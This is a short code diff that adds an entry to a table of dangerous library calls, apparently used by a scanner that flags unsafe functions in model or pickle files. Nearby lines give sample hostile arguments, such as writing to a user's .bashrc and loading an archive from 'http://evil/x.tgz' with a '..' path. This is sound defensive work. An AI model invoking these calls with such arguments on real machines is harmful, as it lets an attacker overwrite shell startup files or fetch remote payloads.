@@ -434,6 +434,7 @@ DANGEROUS: dict[str, list[tuple[str, str, tuple[Any, ...]]]] = {
         ("torchvision.datasets.utils", "_extract_tar", ("/tmp/x.tar", "/home/u")),
         ("pandas", "DataFrame.to_string", ("/home/u/.bashrc",)),
         ("torch.cuda.tunable", "write_file", ("/home/u/.bashrc",)),
+        ("scipy.odr._odrpack", "ODR.run", ("odr",)),
         ("catboost.datasets", "_cached_dataset_load", ("http://evil/x.tgz", "..", "a", "b")),
         ("catboost.datasets", "_extract", ("/tmp/x.tgz", "/home/u")),
         ("catboost", "train", ("pool", "params")),
